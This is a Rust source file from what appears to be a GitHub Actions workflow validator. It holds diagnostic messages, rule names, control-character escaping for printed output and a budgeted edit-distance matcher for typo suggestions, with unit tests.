                write!(f, "{callee} has no secret `{secret}`")?;
                if declared.is_empty() {
                    write!(f, "; it declares no secrets")
                } else {
                    write!(f, "{}", OrList(suggestion, "it declares", declared))
                }
            }
            Problem::MissingSecret { callee, secret } => write!(
                f,
                "{callee} requires the secret `{secret}`; pass it under `secrets:` (or pass all with `secrets: inherit`)"
            ),
            Problem::UnknownLocal { kind, uses, suggestion } => {
                write!(f, "no {kind} at `{uses}` in this repository{suggestion}")
            }
            Problem::NotCallable { workflow } => write!(
                f,
                "the workflow `{workflow}` has no `on.workflow_call`, so no job can call it; add the trigger to it"
            ),
            Problem::RunWithoutShell => write!(
                f,
                "a composite action's `run:` step needs `shell:`; add `shell: bash` (or `pwsh`, `sh`, `python`, ...)"
            ),
            Problem::UnknownRunnerLabel { label, suggestion, self_hosted } => {
                write!(f, "unknown runner label `{label}`{suggestion}; ")?;
                if *self_hosted {
                    write!(f, "it is neither GitHub-hosted nor a declared self-hosted label")?;
                } else {
                    write!(f, "GitHub hosts no runner with it and the repository declares no self-hosted runner")?;
                }
                write!(
                    f,
                    "; if one of the repository's own runners has it, declare it (`Runners::new().self_hosted([\"{label}\"])`)"
                )
            }
            Problem::SelfHostedNotDeclared { custom } => {
                write!(
                    f,
                    "asks for a self-hosted runner, and the repository declares none; declare them (`Runners::new().self_hosted(["
                )?;
                for (i, label) in custom.names().iter().enumerate() {
                    write!(f, "{}\"{label}\"", if i > 0 { ", " } else { "" })?;
                }
                if custom.is_empty() {
                    write!(f, "\"<label>\", ...")?;
                }
                write!(f, "])`) or run the job on a GitHub-hosted label such as `ubuntu-latest`")
            }
            Problem::ServicesNotSupported { label, os } => write!(
                f,
                "service containers run only on Linux runners, and `{label}` is a {os} runner; run this job on `ubuntu-latest`, or start what the services provide in a step"
            ),
            Problem::UnknownArtifact { name, suggestion, uploaded } => {
                write!(f, "no job of this workflow uploads an artifact named `{name}`")?;
                if suggestion.0.is_some() {
                    write!(f, "{suggestion}")?;
                } else if !uploaded.is_empty() {
                    write!(f, "; it uploads {uploaded}")?;
                }
                write!(
                    f,
                    "; upload it with `actions/upload-artifact` (`name: {name}`) in a job this one needs, or download an uploaded name"
                )
            }
        }
    }

    /// The rule this problem belongs to, a stable kebab-case name.
    ///
    /// ```
    /// # use ci_model::Problem;
    /// assert_eq!(Problem::MergeKey.rule(), "syntax");
    /// ```
    pub fn rule(&self) -> &'static str {
        match self {
            Problem::Syntax(_)
            | Problem::DuplicateKey { .. }
            | Problem::MergeKey
            | Problem::NonStringKey { .. }
            | Problem::Tag { .. }
            | Problem::Empty { .. }
            | Problem::NotUtf8 { .. } => "syntax",
            Problem::TooLarge { .. } | Problem::TooDeep { .. } | Problem::ExpansionTooLarge { .. } => "limit",
            Problem::WrongType { .. }
            | Problem::MissingKey { .. }
            | Problem::NoStepBody { .. }
            | Problem::NonScalarInput { .. } => "type",
            Problem::UnknownKey { .. } | Problem::ShadowedKey { .. } | Problem::SchemaOnlyKey { .. } => "unknown-key",
            Problem::UnknownValue { .. } => "value",
            Problem::Exclusive { .. } | Problem::TwoStepBodies { .. } => "exclusive-keys",
            Problem::InvalidId { .. } | Problem::DuplicateStepId { .. } => "id",
            Problem::UnknownNeed { .. }
            | Problem::SelfNeed { .. }
            | Problem::DuplicateNeed { .. }
            | Problem::Cycle { .. } => "needs",
            Problem::EmptyMatrix { .. } | Problem::UnknownMatrixKey { .. } | Problem::ExcludeMatchesNothing => "matrix",
            Problem::Cron { .. } => "cron",
            // Timeouts and `max-parallel`.
            Problem::NotPositive { .. } | Problem::BelowOne { .. } => "number",
            Problem::BadUses { .. } => "uses",
            Problem::CallJobKey { .. } => "reusable-call",
            Problem::UnknownActivityType { .. } | Problem::UnknownEvent { .. } | Problem::NoEvents => "events",
            Problem::NoJobs | Problem::NoSteps => "jobs",
            Problem::Input(_) => "inputs",
            Problem::Security { lint, .. } => lint.name(),
            Problem::Expression { .. } | Problem::AlwaysTrue { .. } => "expression",
            Problem::ContextNotAvailable { .. } | Problem::FunctionNotAvailable { .. } | Problem::NoExpressionsHere => {
                "context"
            }
            Problem::NeedsNotListed { .. }
            | Problem::UnknownJobRef { .. }
            | Problem::UnknownOutput { .. }
            | Problem::UnknownStepRef { .. }
            | Problem::StepNotYetRun { .. }
            | Problem::NoMatrix { .. }
            | Problem::UnknownMatrixRef { .. }
            | Problem::UnknownNamed { .. } => "reference",
            Problem::Unwritable { .. } => "unwritable",
            Problem::UnknownInput { .. }
            | Problem::MissingInput { .. }
            | Problem::InputType { .. }
            | Problem::InputChoice { .. }
            | Problem::DeprecatedInput { .. } => "inputs",
            Problem::UnknownSecret { .. } | Problem::MissingSecret { .. } => "secrets",
            Problem::UnknownLocal { .. } => "uses",
            Problem::NotCallable { .. } => "reusable-call",
            Problem::RunWithoutShell => "shell",
            Problem::UnknownRunnerLabel { .. } | Problem::SelfHostedNotDeclared { .. } => "runner-label",
            Problem::ServicesNotSupported { .. } => "services",
            Problem::UnknownArtifact { .. } => "artifact",
        }
    }
}

/// A message as it is printed: every control character (C0, DEL, C1) and
/// the line and paragraph separators U+2028 and U+2029 of the text it holds
/// (names, keys and values from the document) written as `\u{..}`, so that
/// no name can move the cursor, recolour a terminal or forge a line.
impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.message(&mut Escaped(f))
    }
}

impl std::error::Error for Problem {}

/// Whether a message shows `c` as `\u{..}`.
fn escaped(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Writes through to a formatter with each [`escaped`] character written as
/// `\u{..}` (the form of `char::escape_unicode`); text with none is written
/// as it is, in one piece.
struct Escaped<'a, 'b>(&'a mut fmt::Formatter<'b>);

impl fmt::Write for Escaped<'_, '_> {
    fn write_str(&mut self, s: &str) -> fmt::Result {
        let mut rest = s;
        while let Some(at) = rest.find(escaped) {
            let (clean, tail) = rest.split_at(at);
            self.0.write_str(clean)?;
            let mut chars = tail.chars();
            if let Some(c) = chars.next() {
                write!(self.0, "{}", c.escape_unicode())?;
            }
            rest = chars.as_str();
        }
        self.0.write_str(rest)
    }
}

/// ``; found `runn`: rename it to `run` `` when a misspelling was found.
struct Typo<'a>(Option<&'a str>, &'a str);

impl fmt::Display for Typo<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.0 {
            Some(found) => write!(f, "; found `{found}`: rename it to `{}`", self.1),
            None => Ok(()),
        }
    }
}

/// What follows ``missing required key `x` ``: the misspelling found
/// instead, or else what the key holds.
fn missing_hint(key: &str, found: Option<&str>) -> String {
    if found.is_some() {
        return Typo(found, key).to_string();
    }
    if let Some(hint) = declared_hint(key) {
        return format!("; {hint}");
    }
    let hint = match key {
        "options" => "; a `choice` input lists the values it offers in `options`",
        "workflows" => "; add the names of the workflows whose runs trigger this one",
        "cron" => "; add a schedule such as `cron: '0 9 * * 1'`",
        "type" => "; add the input's type: `string`, `boolean` or `number`",
        "value" => "; add the output's value, e.g. `${{ jobs.build.outputs.version }}`",
        "group" => "; add the concurrency group's name",
        _ => "",
    };
    hint.to_owned()
}

/// Every `(key, hint)` the records declare (`[required = "..."]`, see
/// [`crate::record`]), in declaration order.
fn declared_hints() -> Vec<(&'static str, &'static str)> {
    let mut hints = Vec::new();
    macro_rules! collect {
        // A union's tag.
        (enum $name:ident : $tag:literal [$($topt:tt)*] { $($variants:tt)* } by { $($keyed:tt)* }) => {
            collect!(@one $tag [$($topt)*]);
        };
        (
            $name:ident : $expected:literal { $( $field:ident : $ty:ty = $key:literal [$($opt:tt)*] ),* }
            also { $($plain:ident),* }
        ) => {
            $( collect!(@one $key [$($opt)*]); )*
        };
        (@one $key:literal [$opt:ident = $hint:literal]) => {
            hints.push(($key, $hint));
        };
        (@one $key:literal [$($opt:tt)*]) => {};
    }
    crate::records!(collect);
    hints
}

/// The hint a record declares with its key; the first declaration of `key`
/// that has one. Asked only for a missing key's message.
fn declared_hint(key: &str) -> Option<&'static str> {
    declared_hints().into_iter().find(|(k, _)| *k == key).map(|(_, hint)| hint)
}

/// The closest of `candidates` to `word`, when one is close enough to be a
/// plausible typo (edit distance at most a third of the word, and at least 1;
/// letter case ignored; the first of equally close ones).
///
/// The time is linear in the candidates' total length: a candidate whose
/// length, or whose set of characters, differs from the word's by more than
/// the distance allowed is passed over without comparing, and a comparison
/// stops at the first row of the edit-distance table that is over it.
///
/// ```
/// # use ci_model::diagnostic::closest;
/// assert_eq!(closest("buld", ["build", "test"]), Some("build".to_owned()));
/// assert_eq!(closest("zzz", ["build", "test"]), None);
/// assert_eq!(closest("Runs_On", ["runs-on", "run"]), Some("runs-on".to_owned()));
/// ```
pub fn closest<'a>(word: &str, candidates: impl IntoIterator<Item = &'a str>) -> Option<String> {
    let mut unbounded = usize::MAX;
    Matcher::new(word).best(candidates, &mut unbounded).map(str::to_owned)
}

/// How much work the suggestions of one document may take (see [`Budget`]):
/// candidate bytes read plus edit-distance cells computed, some tens of
/// milliseconds.
pub(crate) const SUGGESTION_WORK: usize = 1 << 25;

/// The work left for suggestions while one document is validated. A
/// suggestion is looked for among the document's own names (job ids, step
/// ids, matrix keys, inputs, outputs, secrets), and a document can have
/// thousands of unknown names and thousands of candidates: past
/// [`SUGGESTION_WORK`] no more suggestions are made (the problems are all
/// still reported), so validation stays linear in the text.
#[derive(Debug)]
pub(crate) struct Budget(std::cell::Cell<usize>);

impl Budget {
    pub(crate) fn new() -> Self {
        Budget(std::cell::Cell::new(SUGGESTION_WORK))
    }

    /// [`closest`] among a document's names, within the work left; `None`
    /// once the budget runs out.
    pub(crate) fn closest<'a>(&self, word: &str, candidates: impl IntoIterator<Item = &'a str>) -> Option<String> {
        let mut left = self.0.get();
        if left == 0 {
            return None;
        }
        let found = Matcher::new(word).best(candidates, &mut left);
        self.0.set(left);
        found.filter(|_| left > 0).map(str::to_owned)
    }
}

/// One word, prepared to be compared with many candidates.
struct Matcher {
    /// The word's characters, lower-cased.
    word: Vec<char>,
    /// Which characters it has (see [`sketch`]).
    sketch: u64,
    /// The largest distance that is a plausible typo.
    limit: usize,
    /// A candidate's characters, lower-cased (reused).
    other: Vec<char>,
    /// Three rows of the edit-distance table (reused).
    rows: [Vec<usize>; 3],
}

/// A 64-bit sketch of which characters a text has: a character present in
/// one text and absent from the other costs an edit, so the characters whose
/// bit is set in one sketch only count edits that any alignment needs.
fn sketch(c: char) -> u64 {
    1 << (u32::from(c) % 64)
}

impl Matcher {
    fn new(word: &str) -> Self {
        let limit = (word.chars().count() / 3).max(1);
        let word: Vec<char> = word.chars().flat_map(char::to_lowercase).collect();
        let sketch = word.iter().fold(0, |s, &c| s | self::sketch(c));
        Matcher { word, sketch, limit, other: Vec::new(), rows: Default::default() }
    }

    /// The first candidate at the smallest distance within the limit, each
    /// byte read and each table cell computed taken from `work`; `None` when
    /// there is none or the work runs out.
    fn best<'a>(&mut self, candidates: impl IntoIterator<Item = &'a str>, work: &mut usize) -> Option<&'a str> {
        let mut best: Option<(&str, usize)> = None;
        for c in candidates {
            // Closer than the best so far, or within the limit.
            let limit = best.map_or(self.limit, |(_, d)| d - 1);
            *work = work.saturating_sub(c.len() + 1);
            if *work == 0 {
                return None;
            }
            if let Some(d) = self.distance_within(c, limit, work) {
                best = Some((c, d));
                if d == 0 {
                    break;
                }
            }
        }
        best.map(|(c, _)| c)
    }

    /// The distance from the word to `candidate` (letter case ignored, a swap
    /// of two neighbours one edit), when it is at most `limit`.
    fn distance_within(&mut self, candidate: &str, limit: usize, work: &mut usize) -> Option<usize> {
        // A lower-case character is at least one byte, and lower-casing
        // makes at most three characters of one.
        let m = self.word.len();
        if candidate.len() / 4 > m + limit || candidate.len() * 3 + limit < m {
            return None;
        }
        self.other.clear();
        if candidate.is_ascii() {
            // One character a byte: the length is known before reading it.
            if m.abs_diff(candidate.len()) > limit {
                return None;
            }
            self.other.extend(candidate.bytes().map(|b| char::from(b.to_ascii_lowercase())));
        } else {
            self.other.extend(candidate.chars().flat_map(char::to_lowercase));
        }
        let n = self.other.len();
        if m.abs_diff(n) > limit {
            return None;
        }
        let theirs = self.other.iter().fold(0, |s, &c| s | sketch(c));
        let only_one = (self.sketch & !theirs).count_ones().max((theirs & !self.sketch).count_ones());
        if only_one as usize > limit {
            return None;
        }
        if m == 0 || n == 0 {
            return Some(m.max(n));
        }
        let (a, b) = (&self.word, &self.other);
        // Cells farther than `limit` from the diagonal are over the limit;
        // `over` stands for any value over it.
        let over = limit + 1;
        for row in &mut self.rows {
            row.clear();
            row.resize(n + 1, over);
        }
        for (j, cell) in self.rows[0].iter_mut().enumerate().take(limit.min(n) + 1) {
            *cell = j;
        }
        for i in 1..=m {
            let (prev2, prev, cur): (&[usize], &[usize], &mut [usize]) = {
                let [r0, r1, r2] = &mut self.rows;
                match i % 3 {
                    1 => (r2, r0, r1),
                    2 => (r0, r1, r2),
                    _ => (r1, r2, r0),
                }
            };
            let lo = i.saturating_sub(limit).max(1);
            let hi = (i + limit).min(n);
            if lo > hi {
                return None;
            }
            cur[lo - 1] = if lo == 1 { i.min(over) } else { over };
            if hi < n {
                cur[hi + 1] = over;
            }
            let mut row_min = cur[lo - 1];
            for j in lo..=hi {
                let cost = usize::from(a[i - 1] != b[j - 1]);
                let mut v = (prev[j] + 1).min(cur[j - 1] + 1).min(prev[j - 1] + cost);
                if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                    v = v.min(prev2[j - 2] + 1);
                }
                cur[j] = v.min(over);
                row_min = row_min.min(cur[j]);
            }
            *work = work.saturating_sub(hi + 1 - lo);
            // No cell of a later row is smaller than the smallest of this one.
            if row_min > limit || *work == 0 {
                return None;
            }
        }
        let d = self.rows[m % 3][n];
        (d <= limit).then_some(d)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `declared_hint` takes the first hint declared with a key: a second,
    /// different hint for the same key (in another record) would never be
    /// shown, so each key has one.
    #[test]
    fn each_key_declares_at_most_one_hint() {
        let hints = declared_hints();
        assert!(hints.len() >= 8, "{hints:?}");
        for (key, hint) in &hints {
            assert_eq!(declared_hint(key), Some(*hint), "`{key}` is declared with two hints");
        }
    }

    /// The full table, for comparison: Levenshtein distance with a swap of
    /// two neighbours as one edit (optimal string alignment).
    fn reference(a: &str, b: &str) -> usize {
        let a: Vec<char> = a.chars().flat_map(char::to_lowercase).collect();
        let b: Vec<char> = b.chars().flat_map(char::to_lowercase).collect();
        let mut d = vec![vec![0; b.len() + 1]; a.len() + 1];
        for (i, row) in d.iter_mut().enumerate() {
            row[0] = i;
        }
        for (j, cell) in d[0].iter_mut().enumerate() {
            *cell = j;
        }
        for i in 1..=a.len() {
            for j in 1..=b.len() {
                let cost = usize::from(a[i - 1] != b[j - 1]);
                d[i][j] = (d[i - 1][j] + 1).min(d[i][j - 1] + 1).min(d[i - 1][j - 1] + cost);
                if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                    d[i][j] = d[i][j].min(d[i - 2][j - 2] + 1);
                }
            }
        }
        d[a.len()][b.len()]
    }

    fn within(a: &str, b: &str, limit: usize) -> Option<usize> {
        let mut unbounded = usize::MAX;
        Matcher::new(a).distance_within(b, limit, &mut unbounded)
    }

    #[test]
    fn edit_distance_counts_transpositions_once() {
        assert_eq!(within("needs", "neesd", 5), Some(1));
        assert_eq!(within("", "abc", 5), Some(3));
        assert_eq!(within("runs-on", "runs_on", 5), Some(1));
        assert_eq!(within("RUNS-ON", "runs-on", 0), Some(0));
        assert_eq!(within("abc", "", 2), None);
    }

    /// The banded table with its early exits agrees with the full one on
    /// every pair of a set of short words, at every limit.
    #[test]
    fn the_banded_distance_agrees_with_the_full_table() {
        let words = [
            "",
            "a",
            "ab",
            "ba",
            "abc",
            "acb",
            "bca",
            "cab",
            "abcd",
            "badc",
            "dcba",
            "needs",
            "neesd",
            "nedes",
            "build",
            "buld",
            "biuld",
            "Build",
            "runs-on",
            "runs_on",
            "run",
            "j12",
            "z12",
            "j21",
            "\u{e9}t\u{e9}",
            "\u{c9}T\u{c9}",
            "\u{130}x",
            "aaaa",
            "aaab",
            "baaa",
            "xyzxyz",
            "zyxzyx",
        ];
        for a in words {
            for b in words {
                let full = reference(a, b);
                for limit in 0..8 {
                    assert_eq!(within(a, b, limit), (full <= limit).then_some(full), "{a:?} {b:?} at {limit}");
                }
            }
        }
    }

    #[test]
    fn closest_picks_the_nearest_plausible_name() {
        assert_eq!(closest("runs_on", ["runs-on", "run"]), Some("runs-on".into()));
        assert_eq!(closest("x", ["needs"]), None);
        // The first of equally close ones; an exact match (case aside) wins.
        assert_eq!(closest("buld", ["bold", "build"]), Some("bold".into()));
        assert_eq!(closest("build", ["buld", "BUILD", "build"]), Some("BUILD".into()));
    }

    /// Past the budget no suggestion is made; before it, the same as
    /// `closest`.
    #[test]
    fn suggestions_stop_when_the_budget_runs_out() {
        let budget = Budget::new();
        let many: Vec<String> = (0..1000).map(|i| format!("job-{i}")).collect();
        assert_eq!(budget.closest("job-5x", many.iter().map(String::as_str)), Some("job-5".into()));
        let mut rounds = 0;
        while budget.closest("job-5x", many.iter().map(String::as_str)).is_some() {
            rounds += 1;
            assert!(rounds < SUGGESTION_WORK, "the budget never runs out");
        }
        assert!(rounds > 100, "{rounds}");
        assert_eq!(budget.closest("buld", ["build"]), None);
    }

    /// Every control character (C0, DEL, C1) and U+2028/U+2029 of a name is
    /// printed as `\u{..}`, in a problem and in a diagnostic; other text,
    /// é and emoji included, as it is.
    #[test]
    fn messages_escape_control_characters_and_line_separators() {
        let key = "k\u{1b}]0;t\u{7}X\u{0}\t\n\r\u{7f}\u{85}\u{9f}\u{2028}\u{2029}é😀";
        let problem = Problem::UnknownKey {
            key: key.to_owned(),
            suggestion: Suggestion(Some("a\u{1b}".to_owned())),
            allowed: Names::of(&["a\u{1b}"]),
        };
        let shown = "k\\u{1b}]0;t\\u{7}X\\u{0}\\u{9}\\u{a}\\u{d}\\u{7f}\\u{85}\\u{9f}\\u{2028}\\u{2029}é😀";
        assert_eq!(
            problem.to_string(),
            format!("unknown key `{shown}`; did you mean `a\\u{{1b}}`?; expected one of `a\\u{{1b}}`")
        );
        let d = Diagnostic {
            path: Path::root().key("jobs").key("a\u{2028}"),
            location: Some(Location { line: 1, column: 2 }),
            problem: Problem::Syntax("bad\u{1b}[2J\n".to_owned()),
        };
        assert_eq!(d.to_string(), "1:2: jobs.\"a\\u{2028}\": bad\\u{1b}[2J\\u{a} [syntax]");
        let clean = Problem::DuplicateKey { key: "caf\u{e9} \u{2026}".to_owned() };
        assert_eq!(clean.to_string(), "duplicate key `caf\u{e9} \u{2026}`; a mapping may hold each key once");
    }

    #[test]
    fn long_lists_are_cut_and_counted() {
        let names = Names::first(["a", "b", "c"], 30);
        assert_eq!(names.to_string(), "`a`, `b`, `c` and 27 more");
        let all: Names = (0..20).map(|i| i.to_string()).collect();
        assert!(!all.to_string().contains("more"), "{all}");
        let empty: Names = std::iter::empty::<&str>().collect();
        assert_eq!(empty.to_string(), "none");
    }
}
